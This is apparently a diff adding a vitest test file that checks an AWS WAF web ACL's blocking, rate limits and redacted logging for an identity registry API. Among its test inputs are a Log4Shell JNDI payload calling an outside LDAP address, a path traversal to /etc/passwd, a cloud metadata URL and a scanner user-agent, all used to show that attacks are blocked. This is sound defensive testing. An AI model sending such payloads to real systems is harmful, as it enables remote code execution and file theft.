@@ -1,0 +1,193 @@
+import { beforeAll, describe, expect, test } from 'vitest';
+import { monthlyPrices } from '../../infra/prices.ts';
+import { managedGroups } from '../../infra/protection/managed-groups.ts';
+import { settingPrices } from '../../infra/setting-prices.ts';
+import { synthesizeWithoutCode } from '../../infra/synthesize.ts';
+import { methodsOf } from '../../shared/contract/endpoint.ts';
+import { endpoints } from '../../shared/contract/endpoints.ts';
+import { refusals } from '../../shared/model/refusals.ts';
+import { type Properties, type Resources, synthesizeTemplate } from '../support/template.ts';
+import { rateLimits, refusing, rulesOf, type SeenRequest } from '../support/web-acl.ts';
+
+const trusted = '198.51.100.0/24';
+let service: Resources;
+let protection: Resources;
+let acl: Properties;
+let sets: Map<string, string[]>;
+beforeAll(async () => {
+  const template = await synthesizeTemplate(
+    { stage: 'prod', trustedNetworks: `${trusted},2001:db8::/48` },
+    synthesizeWithoutCode,
+  );
+  service = template;
+  protection = template.beside.Protection as Resources;
+  acl = protection.ofType('AWS::WAFv2::WebACL')[0]?.properties ?? {};
+  sets = new Map(protection.ofType('AWS::WAFv2::IPSet').map(({ id, properties }) => [id, properties.Addresses]));
+});
+
+const token = 'Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl';
+const asked = (more: Partial<SeenRequest>): SeenRequest => ({
+  ...{ method: 'GET', path: '/v1/persons', address: '203.0.113.7' },
+  headers: { 'user-agent': 'registry/1', authorization: token },
+  ...more,
+});
+
+describe('what is ours is not refused', () => {
+  const event = (note: string) => JSON.stringify({ source: 'CR', uin: '10000000000001', note });
+  test.each<[string, Partial<SeenRequest>]>([
+    ['an event of 200 KB', { method: 'POST', path: '/v1/topics/CR/publish', body: event('x'.repeat(200_000)) }],
+    ['an event that quotes HTML', { method: 'POST', path: '/v1/topics/CR/publish', body: event('<b>née</b> ../..') }],
+    [
+      'a receiver by its IP address',
+      { method: 'POST', path: '/v1/subscriptions', query: 'address=https%3A%2F%2F203.0.113.9%2Fhook' },
+    ],
+    [
+      'a receiver where metadata would be, which the service refuses itself',
+      { method: 'POST', path: '/v1/subscriptions', query: 'address=http://169.254.169.254/latest' },
+    ],
+    ['a search of many attributes', { query: `lastName=O%27Brien&${'attributeNames=firstName&'.repeat(100)}` }],
+    ['a topic that is called like a file', { method: 'POST', path: '/v1/topics/births.log/publish', body: event('') }],
+    ['a program that does not say what it is', { headers: { authorization: token } }],
+    ['a person whose name is no word of ours', { query: 'firstName=Ng%C5%A9g%C4%A9&lastName=%3Cunknown%3E' }],
+  ])('%s', (_, request) => {
+    expect(refusing(acl, asked(request))).toEqual([]);
+  });
+
+  test.each(endpoints.flatMap((endpoint) => methodsOf(endpoint).map((method) => [method, endpoint.path] as const)))(
+    '%s %s',
+    (method, path) => {
+      const filled = path.replaceAll(/\{\w+\}/g, '0198d5a2-7f1c-7c3e-9b5a-3f1e2d4c5b6a');
+      expect(refusing(acl, asked({ method, path: filled }))).toEqual([]);
+    },
+  );
+});
+
+test.each<[string, Partial<SeenRequest>]>([
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what the attack looks like
+  ['Log4JRCE_BODY', { body: '{"note":"${jndi:ldap://198.51.100.1/a}"}' }],
+  ['GenericLFI_URIPATH', { path: '/v1/../../etc/passwd' }],
+  ['ExploitablePaths_URIPATH', { path: '/web-inf/web.xml' }],
+  ['UserAgent_BadBots_HEADER', { headers: { 'user-agent': 'nessus' } }],
+])('what is an attack and nothing else is: %s', (rule, request) => {
+  expect(refusing(acl, asked(request))).toEqual([rule]);
+});
+
+test('only rules that there are only count', () => {
+  for (const { name, counted } of managedGroups) expect(rulesOf(name)).toEqual(expect.arrayContaining([...counted]));
+});
+
+/** How many of so many requests, `everyMs` apart, are let through. */
+function letThrough(request: Partial<SeenRequest>, { count, everyMs }: { count: number; everyMs: number }): number {
+  const limit = rateLimits(acl, sets);
+  let through = 0;
+  for (let nth = 0; nth < count; nth += 1) {
+    const authorization = token + nth;
+    const headers = { 'user-agent': 'a', authorization };
+    if (limit(asked({ headers, ...request }), nth * everyMs) === undefined) through += 1;
+  }
+  return through;
+}
+
+describe('one client', () => {
+  test('that floods with tokens is stopped, though each is another', () => {
+    // 2,000 a second would be all that the stage lets through.
+    expect(letThrough({}, { count: 20_000, everyMs: 0.5 })).toBe(6000);
+    expect(letThrough({ headers: { authorization: 'Bearer guess' } }, { count: 2000, everyMs: 1 })).toBe(300);
+    expect(letThrough({ headers: {} }, { count: 2000, everyMs: 1 })).toBe(300);
+  });
+
+  test('takes the public pages from nobody else, whatever header it sends', () => {
+    // Browsers send no token.
+    for (const path of ['/v1/confirm', '/v1/openapi.json', '/civil/v1/unsubscribe', '/v1/nothing'])
+      for (const headers of [{}, { headers: {} }, { headers: { authorization: 'Bearer guess' } }])
+        expect(letThrough({ path, ...headers }, { count: 2000, everyMs: 1 }), path).toBe(600);
+  });
+
+  test('takes a costly operation from nobody else by one token, from however many addresses', () => {
+    const costly = endpoints.filter((endpoint) => 'isCostly' in endpoint);
+    for (const { method, path } of costly) {
+      const request = { method, path: path.replaceAll(/\{\w+\}/g, 'a-1'), headers: { authorization: token } };
+      expect(letThrough(request, { count: 1000, everyMs: 1 }), path).toBe(900);
+    }
+    // To publish is none.
+    const publish = { method: 'POST', path: '/v1/topics/CR/publish', headers: { authorization: token } };
+    expect(letThrough(publish, { count: 1000, everyMs: 1 })).toBe(1000);
+  });
+
+  test('at an ordinary pace notices nothing', () => {
+    // For more than a minute: what was longer ago does not count.
+    expect(letThrough({}, { count: 8000, everyMs: 12 })).toBe(8000);
+  });
+
+  test('behind an address of a trusted network is one of many', () => {
+    for (const address of ['198.51.100.9', '2001:db8::7'])
+      expect(letThrough({ address }, { count: 8000, everyMs: 1 }), address).toBe(8000);
+  });
+});
+
+test('a limit that is reached is an Error object with the time to wait', () => {
+  const limits = acl.Rules.filter(({ Statement }: Properties) => Statement.RateBasedStatement !== undefined);
+  expect(limits.length).toBeGreaterThan(0);
+  for (const { Action } of limits) {
+    const { ResponseCode, ResponseHeaders, CustomResponseBodyKey } = Action.Block.CustomResponse;
+    expect([ResponseCode, ResponseHeaders]).toEqual([429, [{ Name: 'Retry-After', Value: '60' }]]);
+    const { Content, ContentType } = acl.CustomResponseBodies[CustomResponseBodyKey];
+    expect(ContentType).toBe('APPLICATION_JSON');
+    expect(JSON.parse(Content)).toEqual({ code: refusals.throttled.code, message: expect.any(String) });
+  }
+});
+
+test('the web ACL is before the stage, keeps no samples of paths and tokens, and lets public routes have more', () => {
+  const [association] = protection.ofType('AWS::WAFv2::WebACLAssociation');
+  expect(JSON.stringify(association?.properties.ResourceArn)).toMatch(/::\/restapis\/.*\/stages\/v1"/);
+  expect(JSON.stringify(acl)).not.toContain('"SampledRequestsEnabled":true');
+  const settings = (of: Resources): Properties[] => of.ofType('AWS::ApiGateway::Stage')[0]?.properties.MethodSettings;
+  const rate = (of: Resources, path: string) =>
+    settings(of).find(({ ResourcePath }) => ResourcePath === path.replaceAll('/', '~1').replace(/^~1/, '/~1'))
+      ?.ThrottlingRateLimit;
+  expect([rate(service, '/confirm'), rate(service, '/subscriptions')]).toEqual([500, 50]);
+});
+
+describe('what was refused', () => {
+  const only = (type: string): Properties => protection.ofType(type)[0]?.properties ?? {};
+
+  test('and nothing else is logged, in a group whose name AWS WAF takes, kept as long as all logs', () => {
+    const group = protection.ofType('AWS::Logs::LogGroup')[0];
+    expect(JSON.stringify(group?.properties.LogGroupName)).toMatch(
+      /^[^a-z]*(Fn::Join)?[^a-z]*aws-waf-logs-identity-registry-prod/,
+    );
+    expect(group).toMatchObject({ deletionPolicy: 'RetainExceptOnCreate', properties: { RetentionInDays: 365 } });
+    const { LogDestinationConfigs, LoggingFilter, ResourceArn } = only('AWS::WAFv2::LoggingConfiguration');
+    expect(JSON.stringify(LogDestinationConfigs)).toContain(`:log-group:",{"Ref":"${group?.id}"}]`);
+    expect(ResourceArn['Fn::GetAtt'][0]).toBe(protection.ofType('AWS::WAFv2::WebACL')[0]?.id);
+    expect(LoggingFilter).toEqual({
+      DefaultBehavior: 'DROP',
+      Filters: [{ Behavior: 'KEEP', Requirement: 'MEETS_ANY', Conditions: [{ ActionCondition: { Action: 'BLOCK' } }] }],
+    });
+  });
+
+  test('names no person and holds no token', () => {
+    const { RedactedFields } = only('AWS::WAFv2::LoggingConfiguration');
+    expect(RedactedFields).toEqual(
+      expect.arrayContaining([
+        { UriPath: {} },
+        { QueryString: {} },
+        ...['authorization', 'referer'].map((Name) => ({ SingleHeader: { Name } })),
+      ]),
+    );
+  });
+});
+
+test('the web ACL is priced by the rules that it has', () => {
+  const [, month] = settingPrices.find(([setting]) => setting === '`waf`') ?? [];
+  expect(Number(month)).toBe(monthlyPrices['web ACL']['us-east-1'] + acl.Rules.length);
+});
+
+test('without the setting there is none, and public routes have less', async () => {
+  const plain = await synthesizeTemplate({}, synthesizeWithoutCode);
+  expect(plain.beside.Protection).toBeUndefined();
+  const rates = plain
+    .ofType('AWS::ApiGateway::Stage')[0]
+    ?.properties.MethodSettings.map(({ ThrottlingRateLimit }: Properties) => ThrottlingRateLimit);
+  expect(new Set(rates)).toEqual(new Set([2000, 50]));
+});
